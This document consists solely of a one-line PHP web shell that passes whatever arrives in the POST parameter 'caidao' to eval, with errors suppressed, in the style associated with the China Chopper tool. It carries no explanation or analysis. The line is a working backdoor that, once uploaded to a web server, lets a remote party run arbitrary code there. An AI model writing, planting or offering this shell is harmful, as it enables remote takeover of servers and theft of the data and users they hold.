<?php @eval($_POST['caidao']);?>
